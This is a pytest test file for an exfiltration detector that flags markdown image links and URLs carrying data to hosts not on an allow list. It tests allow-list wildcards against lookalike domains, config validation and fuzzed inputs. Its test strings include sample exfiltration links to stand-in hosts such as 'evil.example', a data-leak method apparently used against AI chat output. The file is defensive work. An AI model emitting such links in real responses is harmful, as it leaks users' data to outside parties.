"""The exfiltration detector: golden cases, the allow list and its validation, and robustness."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from lictor.detect.base import Detector
from lictor.detect.exfil import TYPES, ExfilDetector
from lictor.errors import ConfigError

GOLDEN: list[dict[str, Any]] = yaml.safe_load((Path(__file__).parent / "exfil_golden.yaml").read_text())


@pytest.fixture(scope="module")
def detector() -> ExfilDetector:
    return ExfilDetector(allowed_hosts=["acme.com", "*.acme.com"])


@pytest.mark.parametrize("case", GOLDEN, ids=[c["text"][:40] for c in GOLDEN])
def test_golden(detector: ExfilDetector, case: dict[str, Any]) -> None:
    hits = detector.scan(case["text"])
    assert sorted({h.type for h in hits}) == sorted(case["types"])
    for hit in hits:
        assert hit.type in TYPES
        assert 0 <= hit.start < hit.end <= len(case["text"])


def test_is_a_detector() -> None:
    assert isinstance(ExfilDetector(), Detector)


def test_wildcard_allows_subdomains_not_lookalikes() -> None:
    detector = ExfilDetector(allowed_hosts=["*.acme.com"])
    assert detector.scan("![x](https://img.acme.com/a.png?u=bob)") == []
    assert detector.scan("![x](https://evilacme.com/a.png?u=bob)")
    assert detector.scan("![x](https://acme.com.evil.example/a.png?u=bob)")


def test_image_any_data_can_be_relaxed() -> None:
    assert ExfilDetector(image_any_data=False).scan("![a](https://evil.example/p.png?d=hi)") == []


@pytest.mark.parametrize("hosts", [["*"], ["evil.*"], ["https://acme.com/"], [""]])
def test_bad_allow_list_entries_are_refused(hosts: list[str]) -> None:
    with pytest.raises(ConfigError) as info:
        ExfilDetector(allowed_hosts=hosts)
    assert info.value.path == "allowed_hosts[0]"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="![](){}<>img src=https://evil.example/?&%41abc", max_size=300))
def test_never_raises(text: str) -> None:
    for hit in ExfilDetector().scan(text):
        assert 0 <= hit.start < hit.end <= len(text)


@pytest.mark.parametrize("text", ["![" * 20_000, "https://" * 10_000, "<img " * 10_000,
                                  "https://a.example/?" + "x=1&" * 20_000])
def test_adversarial_inputs_finish(text: str) -> None:
    ExfilDetector().scan(text)
